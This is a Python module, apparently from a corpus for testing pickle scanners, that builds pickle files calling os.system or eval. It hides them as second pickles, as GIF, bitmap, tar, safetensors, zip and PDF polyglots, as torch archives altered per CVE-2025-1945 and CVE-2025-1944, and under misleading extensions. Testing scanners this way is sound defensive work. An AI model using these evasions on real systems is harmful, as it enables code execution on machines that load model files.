"""Several pickles in one file, other files' beginnings and ends, and names that lie about the contents."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable

import numpy as np

from corpus.arrays import dumped
from corpus.assembler import POP, SYSTEM, call, name, old_name, pickled, value
from corpus.entry import Place, Technique


def _act(place: Place) -> bytes:
    return call(SYSTEM, place.command)


def _plain(place: Place) -> bytes:
    return pickled(_act(place))


def _second(place: Place) -> bytes:
    return pickle.dumps({"weights": [1, 2, 3]}) + _plain(place)


def _far_second(place: Place) -> bytes:
    return pickle.dumps(1) * 200 + _plain(place)


def _second_loaded_by_the_first(place: Place) -> bytes:
    """Make the first pickle open its own file and load on behind itself."""
    path = str(place.folder / "a_first_pickle_that_loads_a_second.pkl")
    body = call(
        name("pickle", "loads"),
        call(
            name("operator", "getitem"),
            call(call(name("operator", "methodcaller"), "read_bytes"), call(name("pathlib", "Path"), path)),
            call(name("builtins", "slice"), -len(_plain(place)), None),
        ),
    )
    return pickled(body) + _plain(place)


def _zip(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return file.getvalue()


def _before_a_zip(place: Place) -> bytes:
    return _plain(place) + _zip({"readme.txt": b"nothing here"})


def _before_a_skops(place: Place) -> bytes:
    import skops.io

    return _plain(place) + bytes(skops.io.dumps({"a": [1, 2, 3]}))


def _npy_bytes() -> bytes:
    file = io.BytesIO()
    np.save(file, np.arange(4))
    return file.getvalue()


def _npy_in_a_pickle(place: Place) -> bytes:
    """Hold a whole npy file as bytes first."""
    return pickled(value(_npy_bytes()) + POP + _act(place))


def _gif(place: Place) -> bytes:
    """Begin as a picture: G takes eight bytes as a number."""
    return b"GIF89a\x01\x00\x01" + POP + b"\x80\x04" + _plain(place)[2:]


def _bitmap(place: Place) -> bytes:
    """Begin as a bitmap: BM is a length of bytes."""
    skipped = b"\0" * int.from_bytes(b"M\x00\x00\x00", "little")
    return b"BM\x00\x00\x00" + skipped + POP + _plain(place)


def _tar(place: Place) -> bytes:
    """Be a tar archive whose first member's name begins a pickle that skips to the member's contents."""
    contents = POP + _plain(place)
    info = tarfile.TarInfo("BXXXX")
    info.size = len(contents)
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        archive.addfile(info, io.BytesIO(contents))
    data = bytearray(file.getvalue())
    data[1:5] = struct.pack("<I", 512 - 5)
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


def _safetensors(place: Place) -> bytes:
    """Begin as a safetensors file: the length of its header is an opcode that swallows the header's start."""
    act = POP + b"\x80\x04" + _act(place) + b"."
    # Little-endian, 0x743: as opcodes, SHORT_BINBYTES of seven bytes, of which six are the length's.
    header = b"{" + act
    return b"C\x07" + bytes(6) + header + b'{"__metadata__":{}}'


def _jar(place: Place) -> bytes:
    """Be text up to the call: a comment that is quoted."""
    return b"S'%PDF-1.7 a document'\n0" + b"cos\nsystem\n(V" + place.command.encode() + b"\ntR."


def _torch(place: Place) -> bytes:
    """Be the archive that torch writes, its pickle holding the call; no loader here reads it."""
    return _zip({"archive/data.pkl": _plain(place), "archive/version": b"3\n"})


def _torch_with_flags(place: Place) -> bytes:
    """Set a flag in the archive that makes scanners give up and torch not (CVE-2025-1945)."""
    data = bytearray(_torch(place))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature)
        data[at + offset] |= 1
    return bytes(data)


def _torch_with_another_name(place: Place) -> bytes:
    """Name the member differently in its header and in the directory (CVE-2025-1944)."""
    data = bytearray(_torch(place))
    at = data.index(b"archive/data.pkl")
    data[at : at + 16] = b"archive/data.txt"
    return bytes(data)


def _torch_legacy(place: Place) -> bytes:
    """Be the older form: a magic number, a version and a system, each a pickle, then the objects."""
    first = (
        pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(1001, 2)
        + pickle.dumps({"little_endian": True}, 2)
    )
    return first + pickled(call(old_name("os", "system"), place.command), 2)


def _renamed(suffix: str) -> Technique:
    return Technique(
        f"pickle named {suffix[1:]}",
        "wrong extensions",
        "the contents decide, not the name",
        _plain,
        "joblib",
        suffix,
    )


def _joblib_named_skops(place: Place) -> bytes:
    return dumped([np.arange(3), _Act(place)])


class _Act:
    def __init__(self, place: Place) -> None:
        self.place = place

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return eval, (self.place.code,)


TECHNIQUES = [
    Technique("second pickle", "several pickles", "behind the first STOP", _second, "repeated pickle"),
    Technique("pickle after two hundred", "several pickles", "far behind", _far_second, "repeated pickle"),
    Technique(
        "a first pickle that loads a second",
        "several pickles",
        "out of its own file",
        _second_loaded_by_the_first,
    ),
    Technique(
        "torch's older form", "several pickles", "four pickles", _torch_legacy, "repeated pickle", ".pt"
    ),
    Technique("pickle before a zip", "polyglots", "a zip is read from its end", _before_a_zip, suffix=".zip"),
    Technique(
        "pickle before a skops file",
        "polyglots",
        "two formats can read it",
        _before_a_skops,
        "joblib",
        ".skops",
    ),
    Technique("npy in a pickle", "polyglots", "a whole npy file as bytes", _npy_in_a_pickle, suffix=".npy"),
    Technique("picture", "polyglots", "it begins as a GIF", _gif, suffix=".gif"),
    Technique("bitmap", "polyglots", "it begins as a bitmap", _bitmap, suffix=".bmp"),
    Technique("tar", "polyglots", "it is a tar archive too", _tar, suffix=".tar"),
    Technique(
        "header of tensors", "polyglots", "a length, and JSON at the end", _safetensors, suffix=".safetensors"
    ),
    Technique("document", "polyglots", "text first", _jar, suffix=".pdf"),
    Technique("torch archive", "archives", "a pickle in a zip", _torch, suffix=".pt", executes=False),
    Technique(
        "torch archive with flags",
        "archives",
        "CVE-2025-1945",
        _torch_with_flags,
        suffix=".pt",
        executes=False,
    ),
    Technique(
        "torch archive with another name",
        "archives",
        "CVE-2025-1944",
        _torch_with_another_name,
        suffix=".pt",
        executes=False,
    ),
    *map(_renamed, (".json", ".txt", ".csv", ".onnx", ".h5", ".config", "", ".joblib.gz", ".parquet")),
    Technique(
        "joblib named skops",
        "wrong extensions",
        "which skops' model cards loaded (CVE-2025-54886)",
        _joblib_named_skops,
        "joblib",
        ".skops",
    ),
]
